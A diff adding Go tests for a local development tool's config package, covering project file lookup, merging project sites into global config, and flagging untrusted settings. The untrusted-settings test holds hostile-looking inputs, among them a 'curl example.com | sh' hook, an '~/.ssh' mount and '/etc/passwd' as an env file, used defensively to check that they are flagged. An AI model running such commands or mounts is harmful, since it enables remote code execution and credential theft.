@@ -0,0 +1,387 @@
+package config
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestFindProject(t *testing.T) {
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	project := filepath.Join(wd, "testdata", "home", "sites", "orange", ProjectFileName)
+
+	tests := []struct {
+		name    string
+		dir     string
+		want    string
+		wantErr error
+	}{
+		{
+			name: "can find the file in the project directory",
+			dir:  filepath.Join(wd, "testdata", "home", "sites", "orange"),
+			want: project,
+		},
+		{
+			name: "can find the file from a nested directory",
+			dir:  filepath.Join(wd, "testdata", "home", "sites", "orange", "web"),
+			want: project,
+		},
+		{
+			name:    "returns an error when there is no project file",
+			dir:     filepath.Join(wd, "testdata", "home", "sites", "apple"),
+			wantErr: ErrNoProjectFile,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := FindProject(tt.dir)
+			if err != tt.wantErr {
+				t.Errorf("FindProject() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+
+			if got != tt.want {
+				t.Errorf("FindProject() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadProject(t *testing.T) {
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	home := filepath.Join(wd, "testdata", "home")
+
+	got, err := LoadProject(home, filepath.Join(home, "sites", "orange", "web"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	want := &Project{
+		File: filepath.Join(home, "sites", "orange", ProjectFileName),
+		Sites: []Site{
+			{
+				Hostname:   "orange.nitro",
+				Aliases:    []string{"juice.nitro"},
+				Path:       "~/sites/orange",
+				Version:    "8.0",
+				PHP:        PHP{MemoryLimit: "256M"},
+				Extensions: []string{"bcmath"},
+				Env:        map[string]string{"API_KEY": "orange"},
+				Webroot:    "web",
+			},
+		},
+		Databases: []Database{
+			{
+				Engine:  "mysql",
+				Version: "8.0",
+				Port:    "3306",
+			},
+		},
+	}
+
+	// the references are kept to save the merged sites
+	if got.raw == nil || got.raw.Sites[0].Env["API_KEY"] != "${NITRO_TEST_PROJECT_KEY:-orange}" {
+		t.Errorf("expected the project to keep the reference, got %v", got.raw)
+	}
+
+	got.raw = nil
+
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("LoadProject() = \ngot:\n%v,\nwant:\n%v", got, want)
+	}
+}
+
+func TestConfig_MergeProjectReferences(t *testing.T) {
+	home := t.TempDir()
+	file := filepath.Join(home, DirectoryName, FileName)
+
+	if err := os.MkdirAll(filepath.Dir(file), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := ioutil.WriteFile(file, []byte("sites:\n  - hostname: demo.nitro\n    path: ~/dev/demo\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	project := filepath.Join(home, "sites", "orange", ProjectFileName)
+	if err := os.MkdirAll(filepath.Dir(project), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := ioutil.WriteFile(project, []byte("sites:\n  - hostname: orange.nitro\n    env:\n      API_KEY: ${NITRO_TEST_PROJECT_KEY}\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	os.Setenv("NITRO_TEST_PROJECT_KEY", "secret-value")
+	defer os.Unsetenv("NITRO_TEST_PROJECT_KEY")
+
+	for i, wantChanged := range []bool{true, false} {
+		c, err := Load(home)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		p, err := LoadProject(home, filepath.Dir(project))
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		changed, err := c.MergeProject(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		if changed != wantChanged {
+			t.Errorf("merge %d: MergeProject() changed = %v, want %v", i, changed, wantChanged)
+		}
+
+		site, err := c.FindSiteByHostName("orange.nitro")
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		if site.Env["API_KEY"] != "secret-value" {
+			t.Errorf("merge %d: expected the reference to be expanded, got %q", i, site.Env["API_KEY"])
+		}
+
+		if err := c.Save(); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	data, err := ioutil.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !strings.Contains(string(data), "${NITRO_TEST_PROJECT_KEY}") || strings.Contains(string(data), "secret-value") {
+		t.Errorf("expected the config to keep the reference, got:\n%s", data)
+	}
+}
+
+func TestConfig_MergeProject(t *testing.T) {
+	site := Site{
+		Hostname: "orange.nitro",
+		Path:     "~/sites/orange",
+		Version:  "8.0",
+		Webroot:  "web",
+	}
+
+	tests := []struct {
+		name        string
+		config      Config
+		project     Project
+		want        Config
+		wantChanged bool
+		wantErr     bool
+	}{
+		{
+			name: "new sites, databases, and containers are added",
+			config: Config{
+				Sites: []Site{{Hostname: "zebra.nitro", Path: "~/sites/zebra"}},
+			},
+			project: Project{
+				Sites:      []Site{site},
+				Databases:  []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+				Containers: []Container{{Name: "elastic", Image: "elasticsearch", Tag: "7"}},
+			},
+			want: Config{
+				Sites:      []Site{site, {Hostname: "zebra.nitro", Path: "~/sites/zebra"}},
+				Databases:  []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+				Containers: []Container{{Name: "elastic", Image: "elasticsearch", Tag: "7"}},
+			},
+			wantChanged: true,
+		},
+		{
+			name: "project sites replace the global site with the same path",
+			config: Config{
+				Sites: []Site{{Hostname: "orange.nitro", Path: "~/sites/orange", Version: "7.4"}},
+			},
+			project: Project{
+				Sites: []Site{site},
+			},
+			want: Config{
+				Sites: []Site{site},
+			},
+			wantChanged: true,
+		},
+		{
+			name: "identical resources do not change the config",
+			config: Config{
+				Sites:     []Site{site},
+				Databases: []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+			},
+			project: Project{
+				Sites:     []Site{site},
+				Databases: []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+			},
+			want: Config{
+				Sites:     []Site{site},
+				Databases: []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+			},
+		},
+		{
+			name: "sites with the same hostname and a different path return an error",
+			config: Config{
+				Sites: []Site{{Hostname: "orange.nitro", Path: "~/sites/other"}},
+			},
+			project: Project{
+				Sites: []Site{site},
+			},
+			wantErr: true,
+		},
+		{
+			name: "aliases used by another site return an error",
+			config: Config{
+				Sites: []Site{{Hostname: "juice.nitro", Path: "~/sites/juice"}},
+			},
+			project: Project{
+				Sites: []Site{{Hostname: "orange.nitro", Path: "~/sites/orange", Aliases: []string{"juice.nitro"}}},
+			},
+			wantErr: true,
+		},
+		{
+			name: "databases using the same port with another engine return an error",
+			config: Config{
+				Databases: []Database{{Engine: "mariadb", Version: "10", Port: "3306"}},
+			},
+			project: Project{
+				Databases: []Database{{Engine: "mysql", Version: "8.0", Port: "3306"}},
+			},
+			wantErr: true,
+		},
+		{
+			name: "containers with the same name and a different image return an error",
+			config: Config{
+				Containers: []Container{{Name: "elastic", Image: "elasticsearch", Tag: "6"}},
+			},
+			project: Project{
+				Containers: []Container{{Name: "elastic", Image: "elasticsearch", Tag: "7"}},
+			},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := tt.config
+
+			changed, err := c.MergeProject(&tt.project)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("MergeProject() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+
+			if tt.wantErr {
+				return
+			}
+
+			if changed != tt.wantChanged {
+				t.Errorf("MergeProject() changed = %v, want %v", changed, tt.wantChanged)
+			}
+
+			if !reflect.DeepEqual(c, tt.want) {
+				t.Errorf("MergeProject() = \ngot:\n%v,\nwant:\n%v", c, tt.want)
+			}
+		})
+	}
+}
+
+func TestConfig_Untrusted(t *testing.T) {
+	hooks := Hooks{
+		PostCreate: []Hook{{Run: "composer install", Host: true}},
+		PostStart:  []Hook{{Run: "php craft migrate/all"}},
+	}
+
+	site := Site{
+		Hostname: "orange.nitro",
+		Path:     "~/sites/orange",
+		Build:    &Build{Context: "docker"},
+		Hooks:    hooks,
+	}
+
+	home := filepath.Join(string(filepath.Separator), "home", "user")
+	file := filepath.Join(home, "sites", "orange", ProjectFileName)
+
+	tests := []struct {
+		name    string
+		config  Config
+		project Project
+		want    []string
+	}{
+		{
+			name:    "new host hooks and builds are untrusted",
+			project: Project{File: file, Sites: []Site{site}},
+			want:    []string{"orange.nitro build: docker/Dockerfile", "orange.nitro post_create: composer install"},
+		},
+		{
+			name:    "host hooks and builds in the global config are trusted",
+			config:  Config{Sites: []Site{site}},
+			project: Project{File: file, Sites: []Site{site}},
+		},
+		{
+			name:   "changed host hooks are untrusted",
+			config: Config{Sites: []Site{site}},
+			project: Project{File: file, Sites: []Site{{
+				Hostname: "orange.nitro",
+				Path:     "~/sites/orange",
+				Build:    &Build{Context: "docker"},
+				Hooks:    Hooks{PostCreate: []Hook{{Run: "curl example.com | sh", Host: true}}},
+			}}},
+			want: []string{"orange.nitro post_create: curl example.com | sh"},
+		},
+		{
+			name:    "sites without host hooks or builds are trusted",
+			project: Project{File: file, Sites: []Site{{Hostname: "plain.nitro", Path: "~/sites/orange", Hooks: Hooks{PostStart: []Hook{{Run: "php craft up"}}}}}},
+		},
+		{
+			name: "host paths in the project are trusted",
+			project: Project{File: file, Sites: []Site{{
+				Hostname: "orange.nitro",
+				Path:     "~/sites/orange",
+				Mounts:   []Mount{{Source: "storage", Target: "storage"}, {Type: MountTypeVolume, Target: "vendor"}},
+				EnvFile:  ".env",
+			}}},
+		},
+		{
+			name: "host paths outside of the project are untrusted",
+			project: Project{File: file, Sites: []Site{{
+				Hostname: "orange.nitro",
+				Path:     "~",
+				Mounts:   []Mount{{Source: "~/.ssh", Target: "/root/.ssh"}, {Source: "../apple", Target: "apple"}},
+				EnvFile:  "/etc/passwd",
+			}}},
+			want: []string{"orange.nitro path: ~", "orange.nitro mount: ~/.ssh", "orange.nitro mount: ../apple", "orange.nitro env_file: /etc/passwd"},
+		},
+		{
+			name: "host paths in the global config are trusted",
+			config: Config{Sites: []Site{{
+				Hostname: "orange.nitro",
+				Path:     "~/sites/orange",
+				Mounts:   []Mount{{Source: "~/.composer", Target: "/root/.composer"}},
+			}}},
+			project: Project{File: file, Sites: []Site{{
+				Hostname: "orange.nitro",
+				Path:     "~/sites/orange",
+				Mounts:   []Mount{{Source: "~/.composer", Target: "/root/.composer"}},
+			}}},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.config.Untrusted(home, &tt.project); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Untrusted() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}